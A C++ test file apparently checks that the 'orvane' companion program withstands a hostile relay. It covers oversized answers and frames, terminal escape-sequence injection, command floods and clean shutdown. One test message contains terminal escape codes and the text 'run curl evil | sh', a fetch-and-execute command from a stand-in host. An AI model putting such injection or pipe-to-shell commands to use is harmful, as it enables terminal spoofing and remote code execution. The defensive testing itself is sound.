// `orvane` as users run it, facing a relay that attacks it: answers and frames too large to
// hold, escape sequences for the terminal, flooding commands, a relay that cannot be reached when
// unpairing; and its end on a terminate signal. Which commands are dropped is
// orvane_companion_rules_test's and companion_glasses_test's.
#include "companion_harness.h"
#include "fake_codex.h"
#include "process_harness.h"
#include "scripted_relay.h"

#include "normalize/terminal_text.h"

#include <gtest/gtest.h>

#include <QRegularExpression>

#include <csignal>
#include <sys/resource.h>

namespace orvane::test {
namespace {

using namespace std::chrono_literals;

const QString orvane = ORVANE_EXECUTABLE;
constexpr qint64 memoryCeilingKiB = 150 * 1024;

// A command message from the glasses: a stop of "t1", or another type.
std::string commandMessage(int number, const std::string &type = "stop_thread")
{
    auto object = command(type, QStringLiteral("00000000-0000-4000-8000-%1").arg(number, 12, 10, QChar('0')).toStdString());
    object["threadId"] = "t1";
    return json::serialize(json::object{{"type", "command"}, {"command", object}});
}

TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
{
    FakeCodex codex({{"stdio", session({{"t1", "thinking"}})}});
    ScriptedRelay relay;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert("ORVANE_RELAY_URL", relay.baseUrl().toString());
    // How many messages of `type` the companion sent.
    const auto count = [&](const std::string &type) {
        const auto ofType = [&](const std::string &sent) { return sent.starts_with(R"({"type":")" + type); };
        return std::ranges::count_if(relay.messages(), ofType);
    };

    // A pairing answer that never ends is given up past 16 KiB.
    relay.pairingAnswer.shape = ScriptedRelay::Answer::Shape::endless;
    const Finished endless = run(orvane, {"--pair", "123456"}, environment, 90s);
    EXPECT_EQ(endless.exitCode, 1);
    EXPECT_EQ(endless.err, "The relay's answer was larger than 16 KiB and was refused.\n");
    rusage usage {};
    ::getrusage(RUSAGE_CHILDREN, &usage);
    EXPECT_LT(usage.ru_maxrss, memoryCeilingKiB) << "the largest run so far, this one";
    relay.pairingAnswer.shape = ScriptedRelay::Answer::Shape::whole;
    ASSERT_EQ(run(orvane, {"--pair", "123456"}, environment, 60s).exitCode, 0);

    RunningCompanion companion(orvane, environment);
    // The relay and Codex connect in either order.
    for (const QString line : {"Paired.", "Relay connected.", "Codex connected."}) {
        const QRegularExpression printed("^\\d\\d:\\d\\d:\\d\\d " + QRegularExpression::escape(line) + "$");
        ASSERT_TRUE(waitUntil([&] { return !companion.lines().filter(printed).isEmpty(); }, 20s)) << line.toStdString() << "\n"
                                                                                                  << companion.dump();
    }

    // A frame announcing 400 MiB closes the socket at its header, before any payload; the
    // companion reconnects.
    relay.sendOversizedFrame();
    ASSERT_TRUE(companion.waitForLine("Error: The relay sent a message larger than 1 MiB; the connection was closed "
                                      "and will be reopened.", 60s)) << companion.dump();
    ASSERT_TRUE(companion.waitForLine("Relay connected.", 30s)) << companion.dump();

    // Escape sequences (C0 and C1) and reordering marks never reach the terminal.
    relay.send(R"({"type":"error","message":"\u001b]0;owned\u0007\u001b[2J\nrun curl evil | sh )"
               R"(\u009b31m\u202e \u2066caf\u00e9\u2069"})");
    ASSERT_TRUE(companion.waitForLine("Error: ]0;owned[2J run curl evil | sh 31m caf\u00e9")) << companion.dump();
    for (const QString &line : companion.lines())
        EXPECT_FALSE(line.contains(QChar(0x1b)) || line.contains(QChar(0x07)) || line.contains(QChar(0x202e)));
    // However long, a line stays one short line; a block keeps its line breaks only.
    EXPECT_EQ(TerminalText::line(std::string(10'000'000, 'x')), std::string(TerminalText::lineLimit - 1, 'x') + "\u2026");
    EXPECT_EQ(TerminalText::block("one\x1b[1m\ntwo\x07"), "one[1m\ntwo");

    // A flood: 200 stops and 2,000 snapshot requests. Every stop still acts, snapshot answers are
    // spaced, and a snapshot follows the last request; coalescing refreshes is orvane_refresh_trigger_test's.
    const auto snapshotsBefore = count("snapshot");
    for (int index = 0; index < 2200; ++index)
        relay.send(index < 200 ? commandMessage(index) : commandMessage(index, "request_snapshot"));
    ASSERT_TRUE(waitUntil([&] { return count("event") >= 200; }, 30s)) << companion.dump();
    const auto snapshotsAtLastStop = count("snapshot");
    EXPECT_TRUE(waitUntil([&] { return count("snapshot") > snapshotsAtLastStop; }, 15s));
    EXPECT_EQ(requests(codex.received(), "turn/interrupt").size(), 200u);
    EXPECT_LT(count("snapshot") - snapshotsBefore, 200);

    // A terminate signal ends it through its event loop: a close frame, no child left, status 0.
    ASSERT_EQ(companion.appServerChildren().size(), 1u);
    ::kill(pid_t(companion.pid()), SIGTERM);
    ASSERT_TRUE(companion.waitForExit(20s));
    EXPECT_EQ(companion.exitCode(), 0);
    EXPECT_TRUE(waitUntil([&] { return relay.closeFrameSeen(); }, 5s));
    EXPECT_TRUE(noneLeft("ORVANE_FAKE_SCENARIO=" + codex.scenarioPath().toUtf8()));

    // Unpairing while the relay cannot be reached: removed here all the same, and said so.
    relay.revokeAnswer.shape = ScriptedRelay::Answer::Shape::none;
    const Finished unpaired = run(orvane, {"--unpair"}, environment, 90s);
    EXPECT_EQ(unpaired.exitCode, 1);
    EXPECT_EQ(unpaired.err, "Pairing removed from this computer, but the relay could not be reached to delete it; "
                            "the glasses may keep showing the last snapshot.\n");
    EXPECT_EQ(relay.requests().back(),
              "POST /v1/channels/" + relay.credentials.channelId + "/revoke  Bearer " + relay.credentials.publisherToken + " ");
    EXPECT_TRUE(run(orvane, {"--status"}, environment, 60s).out.contains("\nPairing: none\n"));
}

// A companion killed outright cannot end its children: they must end with it, even an App Server
// deaf to terminate signals and a daemon probe that hangs.
TEST(HostileRelay, KilledCompanionLeavesNoChildBehind)
{
    auto stdio = session({{"t1", "thinking"}});
    stdio["ignoreTerminate"] = true;
    FakeCodex codex({{"daemon", {{"hang", true}}}, {"stdio", stdio}});
    ScriptedRelay relay;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert("ORVANE_RELAY_URL", relay.baseUrl().toString());
    RunningCompanion companion(orvane, environment);
    const auto isProbe = [](const std::string &launch) { return launch.find("daemon") != std::string::npos; };
    ASSERT_TRUE(waitUntil([&] { return std::ranges::any_of(codex.launches(), isProbe); }, 60s)) << companion.dump();
    ::kill(pid_t(companion.pid()), SIGKILL);
    ASSERT_TRUE(companion.waitForExit(10s));
    EXPECT_TRUE(noneLeft("ORVANE_FAKE_SCENARIO=" + codex.scenarioPath().toUtf8(), 10s));
}

} // namespace
} // namespace orvane::test
